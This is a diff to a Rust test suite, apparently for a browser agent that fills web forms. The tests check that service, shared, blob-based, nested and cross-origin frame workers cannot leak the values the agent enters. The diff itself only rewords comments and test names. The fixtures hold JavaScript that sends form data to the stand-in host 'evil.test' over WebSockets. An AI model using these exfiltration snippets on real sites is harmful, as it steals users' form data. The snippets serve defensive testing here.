@@ -1,11 +1,11 @@
-//! Workers without a frame: no rule of the browser's reaches their sockets, so none of them may be there when a page is given
+//! Workers without a frame: no rule of the browser controls their sockets, so none of them may exist when a page gets
 //! values.
 
 use crate::stage::{FORM, REQUEST, Stage};
 use crate::way_out::{arrive, quiet, wait_for};
 
-/// The site's own: a service worker, shared workers of a script and of a blob, a worker in a worker. Each sends what it is
-/// told, and what is told to all.
+/// The site's own workers: a service worker, shared workers of a script and of a blob, a worker in a worker. Each sends
+/// its messages and the broadcasts.
 const OWN: &str = r#"<script>
   const code = (name) => `const send = (d) => {
       try { new WebSocket('wss://evil.test:PORT/${name}-socket?' + d); } catch {}
@@ -60,7 +60,7 @@ const WAYS: [&str; 6] =
     ["service-socket", "service-fetch", "shared-socket", "shared-fetch", "blob-socket", "nested-socket"];
 
 #[test]
-fn no_worker_of_the_site_sends_what_its_page_was_given() {
+fn no_worker_of_the_site_sends_the_values_of_its_page() {
     let mut stage = Stage::new(41);
     stage.site.put("shop.test/checkout", &format!("{FORM}{OWN}"));
     stage.site.put("shop.test/service.js", SERVICE);
@@ -73,7 +73,7 @@ fn no_worker_of_the_site_sends_what_its_page_was_given() {
     stage.browser().evaluate("start().then(give)");
     arrive(&stage, "evil.test", &WAYS);
 
-    // The document and the workers of before are there when the task begins.
+    // Earlier documents and workers exist when the task starts.
     stage.task();
     stage.agent_until(None, "Deliver to");
     let before = quiet(&stage);
@@ -82,7 +82,7 @@ fn no_worker_of_the_site_sends_what_its_page_was_given() {
     wait_for(&mut stage, "'sent' in document.body.dataset");
     assert_eq!(stage.browser().values()["street"], stage.value("street"));
     assert_eq!(quiet(&stage), before, "workers of before, and those that are made after the fill");
-    // In another tab of the site too, which comes later.
+    // They also exist in another tab of the site, which opens later.
     stage.browser().tab(&url);
     stage.browser().evaluate("document.forms[0].elements.street.value = 'of a later tab'");
     stage.browser().evaluate("start().then(give, give)");
@@ -90,7 +90,7 @@ fn no_worker_of_the_site_sends_what_its_page_was_given() {
     stage.no_value_got_out();
 }
 
-/// Another site's frame, which hands what it hears to workers of its own.
+/// Another site's frame, which passes its messages to workers of its own.
 const FRAME: &str = r#"<!doctype html><script>
   const tried = (make) => { try { return make(); } catch { return null; } };
   addEventListener('message', async (e) => {
@@ -99,7 +99,7 @@ const FRAME: &str = r#"<!doctype html><script>
     there?.active.postMessage(e.data);
   });</script>"#;
 
-/// Tells that frame, and a shared worker of a `data:` address, which has no origin.
+/// Sends to that frame, and to a shared worker of a `data:` address, which has an opaque origin.
 const HANDS_OVER: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe><script>
   const code = `onconnect = (e) => { e.ports[0].onmessage = (m) => {
     new WebSocket('wss://evil.test:PORT/data-socket?' + m.data);
@@ -113,7 +113,7 @@ const HANDS_OVER: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame
   addEventListener('input', () => setTimeout(() => { give(); document.body.dataset.sent = ''; }, 50));</script>"#;
 
 #[test]
-fn no_worker_of_another_origin_sends_what_a_page_was_given() {
+fn no_worker_of_another_origin_sends_the_values_of_a_page() {
     let mut stage = Stage::new(42);
     stage.site.put("shop.test/checkout", &format!("{FORM}{HANDS_OVER}"));
     stage.site.put("bank.test/frame", FRAME);
@@ -121,7 +121,7 @@ fn no_worker_of_another_origin_sends_what_a_page_was_given() {
     stage.site.put("bank.test/shared.js", SHARED);
     stage.serve(true);
     stage.browse();
-    // As a person has it who lets sites store in frames.
+    // The setting of a person who lets sites store data in frames.
     stage.browser().at_question("storeInFrames", &serde_json::json!({}));
     let url = stage.site.url("shop.test/checkout");
     stage.browser().open(&url);
@@ -141,7 +141,7 @@ fn no_worker_of_another_origin_sends_what_a_page_was_given() {
 }
 
 #[test]
-fn what_cannot_be_closed_is_not_filled_and_the_user_is_told() {
+fn a_page_that_cannot_be_restricted_is_not_filled_and_the_user_is_told() {
     let mut stage = Stage::new(43);
     stage.site.put("shop.test/checkout", &format!("{FORM}{OWN}"));
     stage.site.put("shop.test/service.js", SERVICE);
@@ -149,7 +149,7 @@ fn what_cannot_be_closed_is_not_filled_and_the_user_is_told() {
     stage.browse();
     let url = stage.site.url("shop.test/checkout");
     stage.browser().open(&url);
-    // A window of the site that came from no server, made before the task: nobody can load it again.
+    // A window of the site that came from no server, opened before the task: it cannot be reloaded.
     stage.browser().evaluate("void (window.made = open('about:blank'))");
     stage.browser().front();
     stage.task();
